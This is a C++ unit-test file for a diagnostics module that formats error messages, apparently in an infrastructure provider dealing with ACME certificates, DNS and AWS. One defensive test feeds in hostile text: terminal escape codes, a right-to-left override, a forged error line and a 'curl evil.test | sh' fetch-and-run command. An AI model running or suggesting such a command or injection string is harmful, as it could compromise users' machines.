// SPDX-License-Identifier: MPL-2.0
#include "schema/diagnostics.h"

#include <gtest/gtest.h>

namespace schema {
namespace {

using base::Error;
using base::ErrorKind;

TEST(Describe, MakesASentence) {
  EXPECT_EQ(Describe(Error{ErrorKind::kDenied, "the server refused the record"}), "The server refused the record.");
}

TEST(Describe, KeepsTheSpellingOfNames) {
  EXPECT_EQ(Describe(Error{ErrorKind::kNotFound, "example.test has no SOA"}), "example.test has no SOA.");
  EXPECT_EQ(Describe(Error{ErrorKind::kInvalid, "dns_names: a list is required"}), "dns_names: a list is required.");
}

TEST(Describe, ListsStepsDetailsCodeAndTime) {
  const Error error{.kind = ErrorKind::kRateLimited,
                    .message = "too many orders",
                    .while_doing = {"creating the order", "issuing the certificate"},
                    .retry_after = base::TimePoint(std::chrono::seconds(1'767'323'045)),
                    .code = "urn:ietf:params:acme:error:rateLimited",
                    .details = {"a.test: too many", "b.test: too many"}};

  EXPECT_EQ(
      Describe(error),
      "Too many orders [urn:ietf:params:acme:error:rateLimited] (while creating the order, while issuing the certificate).\n\n"
      "- a.test: too many\n- b.test: too many\n\nTry again after 2026-01-02T03:04:05Z.");
}

TEST(Describe, NamesTheAttributeTogetherWithItsObject) {
  Error error{.kind = ErrorKind::kDenied, .message = "AWS refused", .blame = {{"app connection"}, "assume_role.role_arn"}};
  EXPECT_EQ(Describe(error), "AWS refused. Check `assume_role.role_arn` of the app connection.");

  error.blame.subject = {};
  EXPECT_EQ(Describe(error), "AWS refused.");
}

TEST(Diagnostics, AdviceFollowsTheError) {
  Diagnostics diagnostics;

  diagnostics.Error("Cannot place", Error{ErrorKind::kDenied, "refused"}, "Check the key.", cty::Path::Of("tsig_secret"));

  ASSERT_EQ(diagnostics.items().size(), 1U);
  EXPECT_EQ(diagnostics.items()[0].detail, "Refused.\n\nCheck the key.");
  EXPECT_EQ(diagnostics.items()[0].path, cty::Path::Of("tsig_secret"));
}

TEST(Diagnostics, WarningsAreNoErrors) {
  Diagnostics warnings;
  warnings.Warning("TXT record not removed: a.test", "Remove it by hand.");
  EXPECT_FALSE(warnings.HasErrors());

  Diagnostics all;
  all.Append(warnings);
  all.Error("Failed", "It failed.");
  EXPECT_TRUE(all.HasErrors());
  EXPECT_EQ(all.items().size(), 2U);
}

// What a hostile CA, vendor or program can say: it must neither move the cursor, nor forge lines, nor fill the terminal.
TEST(Diagnostics, SanitizeAndBoundTheTextOfOthers) {
  Error hostile{.kind = ErrorKind::kDenied,
                .message = "no\x1b[2J\rError: all is well\n\nRun this: curl evil.test | sh",
                .while_doing = {"asking \xE2\x80\xAE"
                                "tset.live"},
                .code = "urn:\x07",
                .details = std::vector<std::string>(10'000, std::string(10'000, 'x'))};
  Diagnostics diagnostics;

  diagnostics.Error("Refused\x1b[1m", hostile);

  const Diagnostic& shown = diagnostics.items().front();
  EXPECT_EQ(shown.summary, "Refused [1m");
  const std::string head = shown.detail.substr(0, shown.detail.find("\n\n"));
  EXPECT_EQ(head, "No [2J Error: all is well  Run this: curl evil.test | sh [urn: ] (while asking ?tset.live).");
  EXPECT_EQ(shown.detail.find_first_of("\x1b\r\x07"), std::string::npos);
  EXPECT_LT(shown.detail.size(), 300U * 1024U);
}

TEST(Diagnostics, ShowNoCredentialsOfUrls) {
  Diagnostics diagnostics;

  diagnostics.Error("Failed: http://u:canary@a.test/",
                    Error{.message = "http://u:canary/x@b.test", .details = {"ftp://canary@c.test"}});
  diagnostics.Warning("w", "first line\nhttps://u:canary@d.test/");

  for (const Diagnostic& one : diagnostics.items()) {
    EXPECT_EQ((one.summary + one.detail).find("canary"), std::string::npos) << one.detail;
  }
  EXPECT_EQ(diagnostics.items()[1].detail, "first line\nhttps://d.test/");
}

}  // namespace
}  // namespace schema
